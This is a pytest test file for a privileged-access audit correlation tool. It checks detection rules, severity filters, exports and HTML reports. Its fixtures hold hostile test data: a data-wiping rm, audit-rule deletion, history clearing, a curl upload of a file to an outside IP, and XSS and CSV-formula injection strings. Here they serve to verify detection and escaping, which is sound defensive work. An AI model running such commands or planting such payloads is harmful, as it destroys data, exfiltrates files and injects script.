"""Detections in the outputs: `pamcorr detections`, --fail-on SEVERITY, the bundle (CSV, JSON lines,
OCSF 2004), the gap report's Risky actions section and timelines, and `pamcorr scope`."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner

from correlate.cli import main
from correlate.detect.run import DetectionSettings, Mute
from correlate.engine import correlate
from correlate.queries import detection_totals, fails
from correlate.store import Store
from reports import detections as det
from reports.gaps import write_gap_report
from reports.ocsf import write_ocsf

REQUIRED = ("event_id", "ts", "account", "target", "source", "action", "detail", "rule_id",
            "title", "class", "severity", "attack", "verdict", "approval_id", "ticket_id",
            "ticket_title", "sequence_id", "position", "review", "muted", "muted_by")
HOSTILE = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">\u202e'
HOSTILE_TITLE = '<b onmouseover="x()">Patch</b> auditd'
# temporal_ordered: a root shell, then the history cleared, same account, within 10 minutes.
SEQUENCE_RULE = """\
title: Root shell, then shell history cleared
name: seq_root_then_history
description: A root shell followed by clearing the history hides what the shell did.
correlation:
  type: temporal_ordered
  rules: [root_shell_via_sudo, shell_history_cleared]
  group-by: [account]
  timespan: 10m
level: high
tags: [attack.defense-evasion, attack.t1070.003]
pamcorr:
  class: sequence
"""


def write_tickets(folder: Path) -> None:
    """CHG-1 with a title (the world fixture writes no title column)."""
    (folder / "tickets.csv").write_text(
        "ticket_id,status,opened,title\n"
        f'CHG-1,approved,2026-01-01T00:00:00Z,"{HOSTILE_TITLE.replace(chr(34), chr(34) * 2)}"\n')


def build(world, tmp_path) -> dict[str, Path]:
    """alice runs auditctl -D inside approval A (needs_review); mallory deletes data, clears the
    history and opens a root shell with no approval (FAIL); bob uploads (FAIL, medium)."""
    world.approval("A", "2026-11-16T10:00:00Z", "2026-11-16T12:00:00Z")
    world.action("audit", "2026-11-16T11:00:00Z", action="exec", detail="=auditctl -D")
    world.action("rm", "2026-11-16T15:00:00Z", account="mallory", target="db-01", action="exec",
                 detail="rm -rf /var/lib/mysql")
    world.action("root", "2026-11-16T15:02:00Z", account="mallory", target="db-01",
                 action="sudo.command", detail="/bin/bash")
    # on another host than the root shell: the shipped root-shell-then-tamper sequences group
    # by (actor, target), the user rule below by account only
    world.action("hist", "2026-11-16T15:04:00Z", account="mallory", target="db-02",
                 action="exec", detail="history -c " + HOSTILE)
    world.action("egress", "2026-11-16T15:05:00Z", account="bob", target="db-01", action="exec",
                 detail="curl -T /tmp/x https://203.0.113.7/u")
    world.action("plain", "2026-11-16T15:06:00Z", account="mallory", target="db-01",
                 action="exec", detail="ls -l")
    files = world.write()
    write_tickets(world.folder)
    return files


@pytest.fixture
def cli(tmp_path, monkeypatch, world):
    """The world ingested and correlated through the CLI (shipped rules, no mutes)."""
    monkeypatch.setenv("PAMCORR_DB", str(tmp_path / "d.duckdb"))

    def run(*args):
        return CliRunner().invoke(main, list(args), catch_exceptions=False)
    for kind, path in build(world, tmp_path).items():
        assert run("ingest", "generic", "--kind", kind, str(path)).exit_code == 0
    res = run("correlate")
    assert res.exit_code == 0, res.output
    run.correlated = res.output
    run.tmp, run.db = tmp_path, str(tmp_path / "d.duckdb")
    return run


@pytest.fixture
def muted_run(cli):
    """A second run with a user sequence rule and bob's upload muted; returns the run id."""
    rules = cli.tmp / "rules"
    rules.mkdir()
    (rules / "seq_root_then_history.yml").write_text(SEQUENCE_RULE)
    settings = DetectionSettings(rule_dirs=(str(rules),), mutes=(
        Mute(rule="network_egress_tool", account="BOB", reason="nightly backup upload"),))
    with Store(cli.db) as store:
        return correlate(store, detections=settings)


def rows_of(res) -> list[dict]:
    assert res.exit_code == 0, res.output
    return list(csv.DictReader(io.StringIO(res.stdout)))


def test_columns_and_worst_first_order(cli):
    rows = rows_of(cli("detections", "--format", "csv"))
    assert set(REQUIRED) <= set(rows[0])
    # FAIL before needs_review; within FAIL critical, high, medium; then time
    assert [(r["event_id"], r["rule_id"], r["review"]) for r in rows] == [
        ("rm", "recursive_delete_of_data", "FAIL"),
        ("hist", "shell_history_cleared", "FAIL"),
        ("root", "root_shell_via_sudo", "FAIL"),
        ("egress", "network_egress_tool", "FAIL"),
        ("audit", "auditctl_rules_deleted", "needs_review")]
    audit = rows[-1]
    assert (audit["verdict"], audit["approval_id"], audit["ticket_id"]) == ("approved", "A", "CHG-1")
    assert audit["ticket_title"] == HOSTILE_TITLE
    assert (audit["severity"], audit["class"], audit["attack"]) == ("critical", "log_tamper",
                                                                     "T1562.012")
    assert audit["detail"] == "'=auditctl -D"            # formula-safe like every CSV
    assert rows[1]["detail"].endswith("<U+202E>")
    assert rows[0]["verdict"] == "unapproved" and rows[0]["muted"] == "false"
    assert "detections: 5 (critical 2, high 1, medium 2; FAIL 4, needs_review 1, MUTED 0)" \
        in cli.correlated


def test_filters_severity_or_worse_class_review_account(cli):
    def ids(*args):
        return [r["event_id"] for r in rows_of(cli("detections", "--format", "csv", *args))]
    assert ids("--severity", "high") == ["rm", "hist", "audit"]
    assert ids("--severity", "critical") == ["rm", "audit"]
    assert ids("--class", "log_tamper") == ["hist", "audit"]
    assert ids("--review", "needs_review") == ["audit"]
    assert ids("--account", "MALLORY") == ["rm", "hist", "root"]
    assert ids("--run", "1", "--limit", "2") == ["rm", "hist"]
    assert cli("detections", "--severity", "severe").exit_code == 2
    res = cli("detections", "--run", "9")
    assert res.exit_code == 1 and "no run 9" in res.output and "Traceback" not in res.output


def test_jsonl_and_table(cli):
    res = cli("detections", "--format", "jsonl")
    items = [json.loads(line) for line in res.stdout.splitlines()]
    assert items[0]["attack"] == ["T1485"] and items[0]["ts"] == "2026-11-16T15:00:00Z"
    assert items[1]["detail"] == "history -c " + HOSTILE    # exact text in JSON
    table = cli("detections").stdout.splitlines()
    assert table[0].split()[:4] == ["ts", "review", "severity", "rule_id"]
    assert len(table) == 6 and "\u202e" not in "".join(table)


def test_fail_review_needs_review_and_muted_with_reason(cli, muted_run):
    rows = rows_of(cli("detections", "--format", "csv", "--run", str(muted_run)))
    egress = [r for r in rows if r["event_id"] == "egress"]
    assert [(r["review"], r["muted"], r["muted_by"]) for r in egress] == [
        ("MUTED", "true", "nightly backup upload")]
    assert rows[-1]["event_id"] == "egress"           # muted ones sort last
    assert {r["review"] for r in rows if r["event_id"] == "audit"} == {"needs_review"}
    seq = [r for r in rows if r["rule_id"] == "seq_root_then_history"]
    assert [(r["event_id"], r["position"]) for r in seq] == [("root", "1"), ("hist", "2")]
    assert len({r["sequence_id"] for r in seq}) == 1 and seq[0]["sequence_id"]
    muted = rows_of(cli("detections", "--format", "csv", "--review", "MUTED"))
    assert [r["event_id"] for r in muted] == ["egress"]


@pytest.mark.parametrize("levels, code", [
    (["critical"], 3), (["high"], 3), (["medium"], 3), (["fail"], 3), (["warn"], 3), ([], 0)])
def test_correlate_fail_on_severity(cli, levels, code):
    args = [a for level in levels for a in ("--fail-on", level)]
    assert cli("correlate", *args).exit_code == code


def test_fail_on_severity_counts_only_unmuted_detections_of_that_severity_or_worse(cli, world,
                                                                                   tmp_path):
    # only a medium detection, inside an approval: severity high is not met, medium is
    world.actions = [a for a in world.actions if a["event_id"] == "plain"]
    world.action("sh", "2026-11-16T11:30:00Z", action="sudo.command", detail="/bin/bash")
    db = str(tmp_path / "m.duckdb")
    for kind, path in world.write().items():
        assert cli("ingest", "generic", "--kind", kind, str(path), "--db", db).exit_code == 0
    assert cli("correlate", "--db", db, "--fail-on", "high").exit_code == 0
    assert cli("correlate", "--db", db, "--fail-on", "medium").exit_code == 3
    assert cli("correlate", "--db", db, "--fail-on", "fail", "--fail-on", "critical").exit_code \
        == 3   # mallory's plain action is unapproved: the status level is met
    with Store(db) as store:
        run = correlate(store, detections=DetectionSettings(mutes=(
            Mute(rule="root_*", account="*", reason="admins may open root shells"),)))
        totals = detection_totals(store, run)
    assert totals == [{"severity": "medium", "review": "MUTED", "n": 1}]
    assert fails(("info",), set(), totals) == []
    assert fails(("info", "fail"), {"FAIL"}, totals) == ["fail"]


def test_bundle_has_detection_files_in_the_manifest_and_verifies(cli, muted_run):
    out = cli.tmp / "bundle"
    assert cli("export", "-o", str(out)).exit_code == 0
    manifest = json.loads((out / "manifest.json").read_text())
    listed = {o["path"]: o for o in manifest["outputs"]}
    assert listed["detections.csv"]["rows"] == listed["detections.jsonl"]["rows"] == 7
    assert manifest["detections"] == 7
    rows = list(csv.DictReader(io.StringIO((out / "detections.csv").read_text())))
    assert set(REQUIRED) <= set(rows[0]) and rows[-1]["review"] == "MUTED"
    assert [r["detail"] for r in rows if r["event_id"] == "audit"] == ["'=auditctl -D"]
    jl = [json.loads(x) for x in (out / "detections.jsonl").read_text().splitlines()]
    assert [j["event_id"] for j in jl] == [r["event_id"] for r in rows]
    res = CliRunner().invoke(main, ["verify", str(out)])
    assert res.exit_code == 0 and "files: 10/10 valid" in res.output, res.output
    (out / "detections.jsonl").write_text("")
    res = CliRunner().invoke(main, ["verify", str(out)])
    assert res.exit_code == 1 and "changed: detections.jsonl" in res.output


def test_ocsf_detection_findings_with_attack_mapping(cli, muted_run):
    out = cli.tmp / "bundle"
    assert cli("export", "-o", str(out)).exit_code == 0
    items = json.loads((out / "findings.ocsf.json").read_text())
    found = [i for i in items if "analytic" in i["finding_info"]]
    assert len(items) == 6 + len(found)       # every finding, then the detections
    assert len(found) == 6                    # 7 rows: the sequence's two members are one
    by_rule = {i["finding_info"]["analytic"]["uid"]: i for i in found}
    audit = by_rule["auditctl_rules_deleted"]
    assert (audit["class_uid"], audit["category_uid"], audit["type_uid"]) == (2004, 2, 200401)
    assert (audit["severity_id"], audit["severity"]) == (5, "Critical")
    assert (audit["status_id"], audit["status_code"], audit["unmapped"]["is_alert"]) == \
        (1, "needs_review", True)
    info = audit["finding_info"]
    assert info["title"] == "Audit rules deleted or auditing disabled with auditctl" and info["desc"]
    assert info["analytic"]["type"] == "Rule" and info["types"] == ["risky action", "log_tamper"]
    assert info["attacks"] == [{
        "technique": {"uid": "T1562", "name": "Impair Defenses"},
        "sub_technique": {"uid": "T1562.012", "name": "Disable or Modify Linux Audit System"},
        "tactic": {"uid": "TA0005", "name": "Defense Evasion"}, "version": "v15"}]
    assert audit["evidences"][0]["data"]["event_id"] == "audit"
    assert audit["evidences"][0]["data"]["detail"] == "=auditctl -D"
    assert audit["evidences"][0]["actor"] == {"user": {"name": "alice"}}
    assert audit["unmapped"]["ticket_title"] == HOSTILE_TITLE
    assert (by_rule["network_egress_tool"]["status_id"],
            by_rule["network_egress_tool"]["status_detail"]) == (3, "nightly backup upload")
    seq = by_rule["seq_root_then_history"]
    assert seq["unmapped"]["related_events_count"] == 2
    assert [e["data"]["event_id"] for e in seq["evidences"]] == ["root", "hist"]
    assert seq["severity_id"] == 4 and seq["finding_info"]["attacks"][0]["technique"]["uid"] == \
        "T1070"
    assert len({i["finding_info"]["uid"] for i in found}) == 6


def test_ocsf_uid_of_a_detection_is_stable_across_runs(cli, muted_run):
    with Store(cli.db, read_only=True) as store:
        uids = []
        for run in (1, muted_run):
            buf = io.StringIO()
            write_ocsf([], buf, None, det.detections(store, run, review="FAIL"))
            uids.append({i["finding_info"]["analytic"]["uid"]: i["finding_info"]["uid"]
                         for i in json.loads(buf.getvalue())})
    assert uids[0]["recursive_delete_of_data"] == uids[1]["recursive_delete_of_data"]


def gap_report(cli, run_id) -> BeautifulSoup:
    with Store(cli.db, read_only=True) as store:
        path = write_gap_report(store, cli.tmp / "gaps.html", run_id)
    return BeautifulSoup(path.read_text(), "html.parser")


def test_gap_report_risky_actions_first_with_sequences_and_muted(cli, muted_run):
    soup = gap_report(cli, muted_run)
    assert [s["id"] for s in soup.select("section")][:3] == ["summary", "risky", "failures"]
    groups = soup.select("#risky-actions tbody.detection")
    assert [(g["data-review"], g["data-rule"]) for g in groups] == [
        ("FAIL", "recursive_delete_of_data"), ("FAIL", "seq_root_then_history"),
        ("FAIL", "shell_history_cleared"), ("FAIL", "root_shell_via_sudo"),
        ("needs_review", "auditctl_rules_deleted")]
    seq = groups[1]
    assert "sequence" in seq["class"] and len(seq.select("tr.member")) == 2
    assert "sequence of 2 action(s)" in seq.select_one("tr.sequence-head").get_text()
    cells = [td.get_text(" ", strip=True) for td in seq.select("tr.member")[0].find_all("td")]
    assert cells[5:9] == ["mallory", "db-01", "sudo.command /bin/bash", "unapproved"]
    audit = groups[-1].select_one("tr.risky")
    assert audit.select_one(".ticket-title").get_text() == HOSTILE_TITLE
    assert "CHG-1" in audit.get_text() and "A" in [td.get_text() for td in audit("td")]
    muted = soup.select("#risky-muted tr.muted")
    assert len(muted) == 1 and muted[0].select_one(".muted-by").get_text() == \
        "nightly backup upload"
    summary = soup.select_one("#risky-summary").get_text(" ", strip=True)
    assert "5 FAIL" in summary and "1 needs review" in summary and "1 MUTED" in summary
    # the sequence is drawn on mallory's timeline, its members and the other flagged actions dotted
    mallory = [f for f in soup.select("#timelines figure") if "mallory" in f.figcaption.get_text()]
    assert mallory and len(mallory[0].select("polyline.sequence")) == 1
    assert len(mallory[0].select("circle.detection.FAIL")) == 3


def test_gap_report_keeps_hostile_commands_and_titles_as_text(cli, muted_run):
    soup = gap_report(cli, muted_run)
    risky = soup.select_one("#risky")
    assert not risky.find_all(["script", "img", "b"])
    for tag in soup.find_all(True):
        assert not [a for a in tag.attrs if a.startswith("on")], tag.name
    commands = [td.get_text() for td in risky.select("td.command")]
    expected = "exec history -c " + HOSTILE.replace("\u202e", "<U+202E>")
    assert expected in commands
    assert "\u202e" not in soup.get_text()
    assert HOSTILE_TITLE in risky.get_text()


def test_scope_shows_detections_in_place(cli, muted_run, tmp_path):
    res = cli("scope", "mallory", "--format", "json")
    assert res.exit_code == 0, res.output
    actions = {a["event_id"]: a for a in json.loads(res.stdout)["actions"]}
    assert [(d["rule_id"], d["severity"], d["review"], d["position"])
            for d in actions["hist"]["detections"]] == [
        ("seq_root_then_history", "high", "FAIL", 2), ("shell_history_cleared", "high", "FAIL",
                                                       None)]
    assert actions["plain"]["detections"] == []
    out = tmp_path / "scope.html"
    assert cli("scope", "mallory", "-o", str(out)).exit_code == 0
    soup = BeautifulSoup(out.read_text(), "html.parser")
    flagged = {tr.select_one("td.mono").get_text(): [s["data-rule"] for s in
                                                      tr.select("span.detection")]
               for tr in soup.select("#events tr.action")}
    assert flagged["mallory on db-01: exec rm -rf /var/lib/mysql"] == ["recursive_delete_of_data"]
    assert flagged["mallory on db-01: exec ls -l"] == []
    assert len(soup.select("#scope-timeline circle.detection")) == 3
    assert soup.select_one("#detections-total").get_text() == "5"
    egress = CliRunner().invoke(main, ["scope", "bob", "--format", "json"])
    (act,) = json.loads(egress.stdout)["actions"]
    assert act["detections"][0]["review"] == "MUTED"
    assert act["detections"][0]["muted_by"] == "nightly backup upload"


def test_a_timeline_joins_its_longest_sequences_and_counts_the_others(cli, muted_run,
                                                                     monkeypatch):
    import reports.gaps as gaps
    monkeypatch.setattr(gaps, "TIMELINE_SEQUENCES", 0)      # at 1e7 one account had 28,893
    soup = gap_report(cli, muted_run)
    mallory = [f for f in soup.select("#timelines figure") if "mallory" in f.figcaption.get_text()]
    assert mallory and not mallory[0].select("polyline.sequence")
    assert "1 more sequence(s) not shown" in mallory[0].figcaption.get_text(" ", strip=True)
    assert len(mallory[0].select("circle.detection.FAIL")) == 3          # members still dotted
